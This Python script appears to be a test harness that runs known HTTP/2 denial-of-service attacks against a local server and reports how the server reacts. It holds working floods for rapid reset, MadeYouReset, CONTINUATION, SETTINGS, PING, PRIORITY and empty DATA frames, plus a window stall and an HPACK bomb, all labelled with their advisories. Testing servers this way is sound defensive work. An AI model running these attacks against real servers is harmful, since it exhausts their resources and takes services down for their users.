"""What a hostile HTTP/2 client does, frame by frame; says how the server took it.

    abuse.py NAME PORT CA

Prints one line of JSON: `closed` is whether the server ended the connection, `code` the error of its GOAWAY, if
it sent one, `resets` the errors of its RST_STREAM frames with their numbers, `sent` how many frames it took.
"""

import json
import select
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

HOST = "im.example.com"
# How long an attack goes on, in seconds, if nothing stops it.
LONG = 20


class Peer:
    """A connection that speaks HTTP/2 by ALPN and counts what comes back."""

    def __init__(self, port, ca):
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
        self.socket = context.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname=HOST)
        assert self.socket.selected_alpn_protocol() == "h2"
        self.encoder, self.buffer = hpack.Encoder(), b""
        self.sent, self.closed, self.code, self.resets, self.answers = 0, False, None, {}, 0
        self.ends = time.monotonic() + LONG
        self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        self.send(SettingsFrame(0))

    def head(self, method="GET", path="/nowhere", more=()):
        return self.encoder.encode(
            [(":method", method), (":scheme", "https"), (":authority", HOST), (":path", path), *more]
        )

    def open(self, stream, flags=("END_HEADERS", "END_STREAM"), data=None, **head):
        frame = HeadersFrame(stream, self.head(**head) if data is None else data)
        for flag in flags:
            frame.flags.add(flag)
        return frame

    def send(self, *frames, listen=True):
        """Sends frames; false once the server has ended the connection, or the time is up."""
        if self.closed or time.monotonic() > self.ends:
            return False
        try:
            self.socket.settimeout(max(0.1, self.ends - time.monotonic()))
            self.socket.sendall(b"".join(frame.serialize() for frame in frames))
            self.sent += len(frames)
        except TimeoutError:
            return False
        except OSError:
            self.closed = True
        if listen:
            self.listen(0)
        return not self.closed

    def listen(self, patience):
        """Reads what is there, waiting for the first of it."""
        while not self.closed:
            if not self.socket.pending() and not select.select([self.socket], [], [], patience)[0]:
                return
            try:
                self.socket.settimeout(5)
                piece = self.socket.recv(65536)
            except OSError:
                piece = b""
            self.closed |= not piece
            self.buffer += piece
            self.take()

    def take(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
            self.buffer = self.buffer[9 + length :]
            if isinstance(frame, GoAwayFrame):
                self.code = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                self.resets[frame.error_code] = self.resets.get(frame.error_code, 0) + 1
            elif isinstance(frame, HeadersFrame):
                self.answers += 1

    def until_closed(self):
        while not self.closed and time.monotonic() < self.ends:
            self.listen(0.2)


def streams():
    return range(1, 2**31, 2)


def rapid_reset(peer):
    """CVE-2023-44487: requests that are taken back at once."""
    for stream in streams():
        if not peer.send(peer.open(stream), RstStreamFrame(stream, error_code=8)):
            return


def made_you_reset(peer):
    """CVE-2025-8671: requests that the server itself must reset."""
    for stream in streams():
        if not peer.send(peer.open(stream), raw(WindowUpdateFrame(stream), b"\0\0\0\0")):
            return


def raw(frame, body):
    """A frame with a body that hyperframe would not write."""

    class Raw:
        def serialize(self):
            return len(body).to_bytes(3, "big") + bytes([frame.type, 0]) + frame.stream_id.to_bytes(4, "big") + body

    return Raw()


def continuation_flood(peer):
    """CVE-2024-27316: a head that never ends."""
    peer.send(peer.open(1, flags=("END_STREAM",)))
    encoder = hpack.Encoder()
    field = encoder.encode([("x-filler", "y" * 4000)])
    while peer.send(ContinuationFrame(1, field)):
        pass


def empty_data_flood(peer):
    """RUSTSEC-2026-0258: frames of a body with nothing in them."""
    peer.send(peer.open(1, flags=("END_HEADERS",), method="POST"))
    while peer.send(*[DataFrame(1, b"")] * 50):
        pass


def settings_flood(peer):
    """CVE-2019-9515: settings to be acknowledged, and nobody reads the acknowledgements."""
    while peer.send(*[SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1000})] * 50, listen=False):
        pass


def ping_flood(peer):
    """CVE-2019-9512: the same with pings."""
    while peer.send(*[PingFrame(0, b"12345678")] * 50, listen=False):
        pass


def priority_flood(peer):
    """CVE-2019-9513: the tree of priorities, over and over."""
    for stream in streams():
        if stream > 400_001 or not peer.send(PriorityFrame(stream, depends_on=0, stream_weight=stream % 256)):
            return


def window_stall(peer):
    """CVE-2019-9517: answers are asked for, and no room is ever given for one."""
    peer.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}))
    for stream in range(1, 201, 2):
        peer.send(peer.open(stream, path="/large"))
    peer.until_closed()


def hpack_bomb(peer):
    """CVE-2016-6581: a few bytes that name a large header over and over."""
    large = peer.encoder.encode([("x-large", "y" * 3900)])
    for stream in streams():
        # An index of one byte stands for the header from then on.
        block = (peer.head() + large if stream == 1 else peer.head()) + b"\xbe" * 4000
        if stream > 2001 or not peer.send(peer.open(stream, data=block)):
            return


def many_streams(peer):
    """More requests under way than were allowed."""
    for stream in range(1, 2001, 2):
        if not peer.send(peer.open(stream, flags=("END_HEADERS",), method="POST")):
            return


def silence(peer):
    """A connection that asks for nothing."""
    peer.until_closed()


def main():
    name, port, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    peer = Peer(port, ca)
    globals()[name](peer)
    peer.ends = max(peer.ends, time.monotonic() + 2)
    peer.listen(1)
    result = {"closed": peer.closed, "code": peer.code, "resets": peer.resets, "sent": peer.sent}
    print(json.dumps({**result, "answers": peer.answers}))


main()
